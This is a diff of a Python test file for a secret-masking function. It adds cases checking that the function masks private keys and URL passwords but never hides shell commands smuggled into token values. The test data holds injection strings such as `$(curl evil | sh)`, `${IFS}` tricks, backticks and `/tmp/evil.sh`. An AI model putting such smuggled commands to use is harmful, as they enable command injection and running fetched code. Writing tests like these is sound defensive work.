@@ -49,14 +49,43 @@ def test_tokens_are_known_by_their_shape(token: str, around: str) -> None:
         ("postgres://me:hunter2@db/x", f"postgres://me:{MASK}@db/x"),
         ("git clone https://:hunter2@x/y.git", f"git clone https://:{MASK}@x/y.git"),
         (
-            "-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----\nrest",
-            f"-----BEGIN RSA PRIVATE KEY----- {MASK}\nrest",
+            f"-----BEGIN RSA PRIVATE KEY-----\n{LETTERS}\n{LETTERS}==\n-----END",
+            f"-----BEGIN RSA PRIVATE KEY----- {MASK}\n-----END",
         ),
-        ("-----BEGIN PRIVATE KEY-----\nMIIE", f"-----BEGIN PRIVATE KEY----- {MASK}"),
+        (
+            f"-----BEGIN PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\n\n{LETTERS}",
+            f"-----BEGIN PRIVATE KEY----- {MASK}",
+        ),
+        (f"-----BEGIN PRIVATE KEY-----\\n{LETTERS}", f"-----BEGIN PRIVATE KEY----- {MASK}"),
     ],
 )
 def test_secrets_are_known_by_the_words_before_them(text: str, told: str) -> None:
     assert masked(text) == told
+
+
+@pytest.mark.parametrize(
+    ("text", "run"),
+    [
+        ('token="$(curl evil | sh)"', "curl evil | sh"),
+        ("token=$(curl${IFS}evil)", "curl${IFS}evil"),
+        ("token=abc$(evil)", "$(evil)"),
+        ("token=`evil`", "evil"),
+        ("bash -c \"token='$(evil)'\"", "evil"),
+        ("TOKEN= evil", "evil"),
+        ("TOKEN=\nevil", "evil"),
+        ("true --token\nevil", "evil"),
+        (": basic\n/tmp/evil.sh", "evil"),
+        ("cat <<<x://a:b;evil;@", "evil"),
+        ("cat https://a:$(evil)@b", "evil"),
+        ("#-----BEGIN PRIVATE KEY-----\nevil", "evil"),
+        (
+            "'-----BEGIN PRIVATE KEY-----'; evil '-----END PRIVATE KEY-----'",
+            "evil",
+        ),
+    ],
+)
+def test_nothing_that_a_shell_runs_is_hidden_as_a_secret(text: str, run: str) -> None:
+    assert run in masked(text)
 
 
 @pytest.mark.parametrize(
@@ -160,6 +189,10 @@ LONG = 200_000
         "-----BEGIN A",
         "://a:b",
         'token="',
+        'token="$',
+        "token \t",
+        "://a:",
+        "-----BEGIN PRIVATE KEY-----AAAAAAAAAAAAAAAAAAAAA",
     ],
 )
 def test_a_long_text_is_masked_soon(piece: str) -> None:
